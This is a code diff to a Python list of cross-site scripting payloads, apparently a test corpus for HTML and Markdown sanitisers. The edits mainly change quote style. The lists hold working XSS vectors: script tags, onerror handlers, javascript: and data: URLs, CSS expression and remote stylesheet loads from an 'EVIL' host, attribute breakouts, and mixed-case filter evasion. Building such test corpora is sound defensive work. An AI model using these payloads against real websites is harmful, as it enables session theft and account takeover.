@@ -65,14 +65,14 @@ SCRIPT = [
     "<<script>{js}//<</script>",
     "<script\x0ctype=text/javascript>{js}</script>",
     "<script>{js}",
-    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
-    "<img \"\"\"><script>{js}</script>\">",
+    '<noscript><p title="</noscript><img src=x onerror={js}>">',
+    '<img """><script>{js}</script>">',
     "<![CDATA[<script>{js}</script>]]>",
 ]
 HANDLER = [
     "<img src=x onerror={js}>",
     '<img src="x" onerror="{js}">',
-    "<img src=1 href=1 onerror=\"javascript:{js}\"></img>",
+    '<img src=1 href=1 onerror="javascript:{js}"></img>',
     "<img src=x:alert(alt) onerror=eval(src) alt=0>",
     "<img/src=x/onerror={js}>",
     "<body onload={js}>",
@@ -103,8 +103,8 @@ URL = [
     '<a href="vbscript:msgbox(1)">Klick</a>',
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Klick</a>',
     '<iframe src="javascript:{js}"></iframe>',
-    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
-    "<iframe srcdoc=\"&lt;img src=x onerror={js}&gt;\"></iframe>",
+    '<iframe srcdoc="<script>{js}</script>"></iframe>',
+    '<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>',
     '<object data="javascript:{js}"></object>',
     '<embed src="javascript:{js}">',
     '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
@@ -138,7 +138,7 @@ CSS = [
     '<div style="width:expression({js})">x</div>',
     "<style>@import '" + EVIL + "/x.css';</style>",
     '<style>body{{background:url("javascript:{js}")}}</style>',
-    "<div style=\"behavior:url(" + EVIL + "/x.htc)\">x</div>",
+    '<div style="behavior:url(' + EVIL + '/x.htc)">x</div>',
     '<p style="color:red">rot</p>',
     "<style>*{{display:none}}</style>",
 ]
@@ -148,7 +148,7 @@ BREAKOUT = [
     '" onmouseover="{js}',
     "' onmouseover='{js}",
     '" autofocus onfocus="{js}" x="',
-    "\" onfocus={js} autofocus x=\"",
+    '" onfocus={js} autofocus x="',
     "</textarea><script>{js}</script>",
     "</title><script>{js}</script>",
     "</script><script>{js}</script>",
@@ -161,7 +161,7 @@ BREAKOUT = [
     '"}}</script><script>{js}</script>',
     "\\u003c/script\\u003e<script>{js}</script>",
     "</noscript><img src=x onerror={js}>",
-    '`"\'><img src=x onerror={js}>',
+    "`\"'><img src=x onerror={js}>",
     "</option></select><script>{js}</script>",
 ]
 MARKDOWN = [
@@ -174,8 +174,8 @@ MARKDOWN = [
     "<javascript:{js}>",
     "[Klick][ref]\n\n[ref]: javascript:{js}",
     '![x](x" onerror="{js})',
-    '[Klick](' + EVIL + '/ "Titel\\" onmouseover=\\"{js}")',
-    '<' + EVIL + '/"onmouseover="{js}">',
+    "[Klick](" + EVIL + '/ "Titel\\" onmouseover=\\"{js}")',
+    "<" + EVIL + '/"onmouseover="{js}">',
     "[Klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "`<script>{js}</script>`",
     "```html\n<script>{js}</script>\n```",
@@ -223,12 +223,12 @@ BROKEN = [
     "<script",
     "<!--",
     "<!-- <script>{js}</script> --!>",
-    "<?xml version=\"1.0\"?><script>{js}</script>",
+    '<?xml version="1.0"?><script>{js}</script>',
     "<div <img src=x onerror={js}>>",
     "<img src='x' onerror='{js}'<b>",
     "</p></div></main></body></html><script>{js}</script>",
     "<table><td><img src=x onerror={js}></table>",
-    "<a href=\"" + EVIL + "/\"><b><i>unclosed",
+    '<a href="' + EVIL + '/"><b><i>unclosed',
     "<plaintext><script>{js}</script>",
     "<xmp></xmp><script>{js}</script>",
     "<template><script>{js}</script></template>",
@@ -255,7 +255,9 @@ FAMILIES = {
 def _mixed_case(text: str) -> str:
     """sCrIpT: every other letter upper case (sanitisers that match lower case only)."""
     letters = itertools.cycle((str.lower, str.upper))
-    return "".join(next(letters)(char) if char.isascii() and char.isalpha() else char for char in text)
+    return "".join(
+        next(letters)(char) if char.isascii() and char.isalpha() else char for char in text
+    )
 
 
 def _url_encoded(text: str) -> str:
